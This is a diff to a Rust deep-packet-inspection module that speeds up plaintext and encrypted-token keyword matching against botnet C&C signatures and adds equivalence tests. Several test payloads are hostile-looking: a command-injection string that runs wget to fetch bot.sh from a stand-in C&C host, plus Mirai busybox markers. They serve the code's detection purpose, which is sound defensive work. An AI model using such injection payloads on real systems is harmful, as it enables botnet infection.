@@ -4,10 +4,29 @@
 //! PRF-encrypted tokens; a plaintext DPI engine is included as the
 //! baseline (and as the model of the certificate-injection middlebox the
 //! paper rejects).
+//!
+//! # Fast path
+//!
+//! Both engines originally scanned the payload once per rule —
+//! O(rules × payload) — which collapses at realistic signature-set sizes
+//! (hundreds of C&C keywords). The hot paths are now single-pass:
+//!
+//! * [`PlaintextDpi`] compiles its keywords into an Aho–Corasick
+//!   automaton ([`xlf_analytics::AcAutomaton`]) once at construction and
+//!   walks each payload exactly once, O(payload + matches).
+//! * [`EncryptedDpi`] indexes per-session rule tokens in a
+//!   [`TokenIndex`] keyed by each rule's first window token and walks the
+//!   traffic token stream once, O(traffic tokens + candidate checks).
+//!
+//! The naive per-rule scans are kept behind [`PlaintextDpi::inspect_naive`]
+//! and [`EncryptedDpi::with_naive_matching`] for A/B measurement; the
+//! bench harness and property tests assert the engines agree exactly.
 
 use crate::bus::EvidenceBus;
 use crate::evidence::{Evidence, EvidenceKind, Layer};
-use xlf_lwcrypto::searchable::{match_rule, Token, Tokenizer};
+use std::sync::Arc;
+use xlf_analytics::AcAutomaton;
+use xlf_lwcrypto::searchable::{match_rule, Token, TokenIndex, Tokenizer};
 use xlf_lwcrypto::CryptoError;
 use xlf_simnet::SimTime;
 
@@ -22,31 +41,98 @@ pub struct Rule {
     pub keyword: Vec<u8>,
 }
 
-/// A rule match.
+/// A rule match. The rule name is a shared interned string so reporting a
+/// match never copies the name bytes.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct DpiMatch {
     /// The matching rule's name.
-    pub rule: String,
+    pub rule: Arc<str>,
     /// Token/byte offset of the first match.
     pub offset: usize,
 }
 
-/// Plaintext DPI baseline: byte-level keyword scan.
-#[derive(Debug, Default)]
+/// Inspection counters for a DPI engine.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct DpiStats {
+    /// Token streams inspected.
+    pub streams_inspected: u64,
+    /// Streams with at least one rule match.
+    pub matches: u64,
+}
+
+fn intern_names(rules: &[Rule]) -> Vec<Arc<str>> {
+    rules.iter().map(|r| Arc::from(r.name.as_str())).collect()
+}
+
+fn matches_from_firsts(names: &[Arc<str>], firsts: &[Option<usize>]) -> Vec<DpiMatch> {
+    firsts
+        .iter()
+        .enumerate()
+        .filter_map(|(id, first)| {
+            first.map(|offset| DpiMatch {
+                rule: names[id].clone(),
+                offset,
+            })
+        })
+        .collect()
+}
+
+/// Plaintext DPI baseline: byte-level keyword matching via a single-pass
+/// Aho–Corasick automaton compiled once from the rule set.
+#[derive(Debug)]
 pub struct PlaintextDpi {
     rules: Vec<Rule>,
+    names: Vec<Arc<str>>,
+    automaton: AcAutomaton,
+}
+
+impl Default for PlaintextDpi {
+    fn default() -> Self {
+        PlaintextDpi::new(Vec::new())
+    }
 }
 
 impl PlaintextDpi {
-    /// Creates an engine with the given rules.
+    /// Creates an engine with the given rules, compiling the automaton.
     pub fn new(rules: Vec<Rule>) -> Self {
-        PlaintextDpi { rules }
+        let names = intern_names(&rules);
+        let automaton = AcAutomaton::build(rules.iter().map(|r| r.keyword.as_slice()));
+        PlaintextDpi {
+            rules,
+            names,
+            automaton,
+        }
     }
 
-    /// Scans a plaintext payload.
+    /// The compiled rule set.
+    pub fn rules(&self) -> &[Rule] {
+        &self.rules
+    }
+
+    /// Scans a plaintext payload in one automaton pass.
     pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
+        matches_from_firsts(&self.names, &self.automaton.find_first_per_pattern(payload))
+    }
+
+    /// Scans a batch of payloads, reusing the per-pattern scratch buffer
+    /// across payloads.
+    pub fn inspect_batch(&self, payloads: &[&[u8]]) -> Vec<Vec<DpiMatch>> {
+        let mut scratch = Vec::new();
+        payloads
+            .iter()
+            .map(|payload| {
+                self.automaton
+                    .find_first_per_pattern_into(payload, &mut scratch);
+                matches_from_firsts(&self.names, &scratch)
+            })
+            .collect()
+    }
+
+    /// The original per-rule window scan, O(rules × payload). Kept for
+    /// A/B benchmarking and as the equivalence oracle in property tests.
+    pub fn inspect_naive(&self, payload: &[u8]) -> Vec<DpiMatch> {
         let mut out = Vec::new();
-        for rule in &self.rules {
+        for (id, rule) in self.rules.iter().enumerate() {
             if rule.keyword.is_empty() {
                 continue;
             }
@@ -55,7 +141,7 @@ impl PlaintextDpi {
                 .position(|w| w == rule.keyword)
             {
                 out.push(DpiMatch {
-                    rule: rule.name.clone(),
+                    rule: self.names[id].clone(),
                     offset,
                 });
             }
@@ -68,17 +154,23 @@ impl PlaintextDpi {
 /// matches them against traffic token streams. It never sees plaintext.
 pub struct EncryptedDpi {
     rules: Vec<Rule>,
-    /// Per-session compiled rule tokens: (rule name, token sequence).
-    compiled: Vec<(String, Vec<Token>)>,
+    names: Vec<Arc<str>>,
+    /// Per-session compiled rule token sequences (rule order).
+    compiled: Vec<Vec<Token>>,
+    /// Single-pass index over `compiled` (rebuilt on each session bind).
+    index: TokenIndex,
+    /// When set, match via the per-rule naive scan instead of the index.
+    naive: bool,
     bus: Option<EvidenceBus>,
-    /// (inspected streams, matches) counters.
-    pub stats: (u64, u64),
+    /// Inspection counters.
+    pub stats: DpiStats,
 }
 
 impl std::fmt::Debug for EncryptedDpi {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("EncryptedDpi")
             .field("rules", &self.rules.len())
+            .field("naive", &self.naive)
             .field("stats", &self.stats)
             .finish_non_exhaustive()
     }
@@ -87,11 +179,15 @@ impl std::fmt::Debug for EncryptedDpi {
 impl EncryptedDpi {
     /// Creates the middlebox with a rule set (not yet bound to a session).
     pub fn new(rules: Vec<Rule>) -> Self {
+        let names = intern_names(&rules);
         EncryptedDpi {
             rules,
+            names,
             compiled: Vec::new(),
+            index: TokenIndex::default(),
+            naive: false,
             bus: None,
-            stats: (0, 0),
+            stats: DpiStats::default(),
         }
     }
 
@@ -101,9 +197,17 @@ impl EncryptedDpi {
         self
     }
 
+    /// Selects the naive per-rule scan instead of the token index
+    /// (builder-style; used for A/B benchmarking).
+    pub fn with_naive_matching(mut self, naive: bool) -> Self {
+        self.naive = naive;
+        self
+    }
+
     /// Binds the rule set to a session: the rule authority (who holds the
     /// session secret via the separate XLF Core ↔ service channel the
-    /// paper describes) compiles keyword tokens for this session.
+    /// paper describes) compiles keyword tokens for this session and
+    /// indexes them for single-pass matching.
     ///
     /// # Errors
     ///
@@ -113,42 +217,119 @@ impl EncryptedDpi {
         self.compiled = self
             .rules
             .iter()
-            .map(|r| (r.name.clone(), tokenizer.rule_tokens(&r.keyword)))
+            .map(|r| tokenizer.rule_tokens(&r.keyword))
             .collect();
+        self.index = TokenIndex::build(self.compiled.clone());
         Ok(())
+    }
+
+    fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
+        if self.naive {
+            scratch.clear();
+            scratch.extend(
+                self.compiled
+                    .iter()
+                    .map(|rule| match_rule(tokens, rule).first().copied()),
+            );
+        } else {
+            self.index.find_first_per_rule_into(tokens, scratch);
+        }
+        matches_from_firsts(&self.names, scratch)
+    }
+
+    /// Pure matching over one traffic token stream: no counters, no
+    /// evidence. Safe to call from multiple threads (`&self`), which is
+    /// what the sharded batch path does.
+    pub fn match_stream(&self, tokens: &[Token]) -> Vec<DpiMatch> {
+        let mut scratch = Vec::new();
+        self.match_into(tokens, &mut scratch)
+    }
+
+    fn record(&mut self, device: &str, matches: &[DpiMatch], now: SimTime) {
+        self.stats.streams_inspected += 1;
+        if matches.is_empty() {
+            return;
+        }
+        self.stats.matches += 1;
+        if let Some(bus) = &self.bus {
+            for m in matches {
+                bus.report(Evidence::new(
+                    now,
+                    Layer::Network,
+                    device,
+                    EvidenceKind::DpiMatch,
+                    0.9,
+                    &format!("rule {} matched at token {}", m.rule, m.offset),
+                ));
+            }
+        }
     }
 
     /// Inspects a traffic token stream (produced by the sending endpoint);
     /// reports matches as evidence attributed to `device`.
     pub fn inspect(&mut self, device: &str, tokens: &[Token], now: SimTime) -> Vec<DpiMatch> {
-        self.stats.0 += 1;
-        let mut out = Vec::new();
-        for (name, rule_tokens) in &self.compiled {
-            let positions = match_rule(tokens, rule_tokens);
-            if let Some(&offset) = positions.first() {
-                out.push(DpiMatch {
-                    rule: name.clone(),
-                    offset,
-                });
-            }
-        }
-        if !out.is_empty() {
-            self.stats.1 += 1;
-            if let Some(bus) = &self.bus {
-                for m in &out {
-                    bus.report(Evidence::new(
-                        now,
-                        Layer::Network,
-                        device,
-                        EvidenceKind::DpiMatch,
-                        0.9,
-                        &format!("rule {} matched at token {}", m.rule, m.offset),
-                    ));
-                }
-            }
+        let out = self.match_stream(tokens);
+        self.record(device, &out, now);
+        out
+    }
+
+    /// Inspects a batch of token streams from one device, reusing the
+    /// match scratch buffer across streams. Counters and evidence behave
+    /// exactly as if [`EncryptedDpi::inspect`] were called per stream.
+    pub fn inspect_batch(
+        &mut self,
+        device: &str,
+        streams: &[Vec<Token>],
+        now: SimTime,
+    ) -> Vec<Vec<DpiMatch>> {
+        let mut scratch = Vec::new();
+        let mut out = Vec::with_capacity(streams.len());
+        for tokens in streams {
+            let matches = self.match_into(tokens, &mut scratch);
+            self.record(device, &matches, now);
+            out.push(matches);
         }
         out
     }
+}
+
+/// Matches a batch of token streams across `shards` worker threads
+/// (crossbeam scoped threads over contiguous chunks). Pure matching —
+/// counters and evidence stay with the caller, so the engine is shared
+/// immutably across shards. Results keep the input order.
+pub fn match_batch_sharded(
+    dpi: &EncryptedDpi,
+    streams: &[Vec<Token>],
+    shards: usize,
+) -> Vec<Vec<DpiMatch>> {
+    let shards = shards.max(1).min(streams.len().max(1));
+    if shards <= 1 {
+        let mut scratch = Vec::new();
+        return streams
+            .iter()
+            .map(|tokens| dpi.match_into(tokens, &mut scratch))
+            .collect();
+    }
+    let chunk = streams.len().div_ceil(shards);
+    crossbeam::thread::scope(|s| {
+        let handles: Vec<_> = streams
+            .chunks(chunk)
+            .map(|chunk| {
+                s.spawn(move || {
+                    let mut scratch = Vec::new();
+                    chunk
+                        .iter()
+                        .map(|tokens| dpi.match_into(tokens, &mut scratch))
+                        .collect::<Vec<_>>()
+                })
+            })
+            .collect();
+        handles
+            .into_iter()
+            .flat_map(|h| h.join().expect("shard panicked"))
+            .collect()
+    })
+    .expect("shard scope panicked")
 }
 
 /// Builds the default rule set from the botnet C&C signatures.
@@ -187,8 +368,49 @@ mod tests {
         let dpi = PlaintextDpi::new(rules());
         let hits = dpi.inspect(b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit");
         assert_eq!(hits.len(), 1);
-        assert_eq!(hits[0].rule, "cnc-0");
+        assert_eq!(hits[0].rule.as_ref(), "cnc-0");
+        assert_eq!(hits[0].offset, 8);
         assert!(dpi.inspect(b"GET /weather HTTP/1.1").is_empty());
+    }
+
+    #[test]
+    fn plaintext_automaton_agrees_with_naive() {
+        let mut rule_set = rules();
+        rule_set.push(Rule {
+            name: "empty".into(),
+            keyword: Vec::new(),
+        });
+        rule_set.push(Rule {
+            name: "overlap".into(),
+            keyword: b"busybox".to_vec(),
+        });
+        let dpi = PlaintextDpi::new(rule_set);
+        for payload in [
+            &b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit"[..],
+            b"/bin/busybox MIRAI and POST /cdn-cgi/ HTTP both",
+            b"clean",
+            b"",
+        ] {
+            assert_eq!(
+                dpi.inspect(payload),
+                dpi.inspect_naive(payload),
+                "divergence on {payload:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn plaintext_batch_matches_per_payload_inspection() {
+        let dpi = PlaintextDpi::new(rules());
+        let payloads: Vec<&[u8]> = vec![
+            b"benign",
+            b"/bin/busybox MIRAI go",
+            b"POST /cdn-cgi/ HTTP beacon",
+        ];
+        let batched = dpi.inspect_batch(&payloads);
+        for (payload, batch) in payloads.iter().zip(&batched) {
+            assert_eq!(&dpi.inspect(payload), batch);
+        }
     }
 
     #[test]
@@ -204,7 +426,13 @@ mod tests {
         let hits = middlebox.inspect("cam", &dirty, SimTime::ZERO);
         assert_eq!(hits.len(), 1);
         assert!(middlebox.inspect("cam", &clean, SimTime::ZERO).is_empty());
-        assert_eq!(middlebox.stats, (2, 1));
+        assert_eq!(
+            middlebox.stats,
+            DpiStats {
+                streams_inspected: 2,
+                matches: 1
+            }
+        );
     }
 
     #[test]
@@ -226,6 +454,60 @@ mod tests {
                 .is_empty();
             assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
         }
+    }
+
+    #[test]
+    fn indexed_and_naive_encrypted_engines_agree() {
+        let mut indexed = EncryptedDpi::new(rules());
+        let mut naive = EncryptedDpi::new(rules()).with_naive_matching(true);
+        indexed.bind_session(b"s").unwrap();
+        naive.bind_session(b"s").unwrap();
+        let endpoint = Tokenizer::new(b"s").unwrap();
+        for payload in [
+            &b"wget${IFS}http://cnc.evil/bot.sh"[..],
+            b"prefix /bin/busybox MIRAI suffix",
+            b"clean stream",
+            b"hi",
+        ] {
+            let tokens = endpoint.tokenize(payload);
+            assert_eq!(
+                indexed.inspect("d", &tokens, SimTime::ZERO),
+                naive.inspect("d", &tokens, SimTime::ZERO),
+                "divergence on {payload:?}"
+            );
+        }
+        assert_eq!(indexed.stats, naive.stats);
+    }
+
+    #[test]
+    fn batch_inspection_matches_per_stream_inspection() {
+        let payloads: Vec<&[u8]> = vec![
+            b"benign telemetry",
+            b"attack: /bin/busybox MIRAI scanner start",
+            b"POST /cdn-cgi/ HTTP beacon",
+            b"also clean",
+        ];
+        let endpoint = Tokenizer::new(b"s").unwrap();
+        let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();
+
+        let mut single = EncryptedDpi::new(rules());
+        single.bind_session(b"s").unwrap();
+        let expected: Vec<Vec<DpiMatch>> = streams
+            .iter()
+            .map(|t| single.inspect("d", t, SimTime::ZERO))
+            .collect();
+
+        let mut batched = EncryptedDpi::new(rules());
+        batched.bind_session(b"s").unwrap();
+        assert_eq!(
+            batched.inspect_batch("d", &streams, SimTime::ZERO),
+            expected
+        );
+        assert_eq!(batched.stats, single.stats);
+
+        // Sharded matching (pure) returns the same matches in order.
+        assert_eq!(match_batch_sharded(&batched, &streams, 3), expected);
+        assert_eq!(match_batch_sharded(&batched, &streams, 16), expected);
     }
 
     #[test]
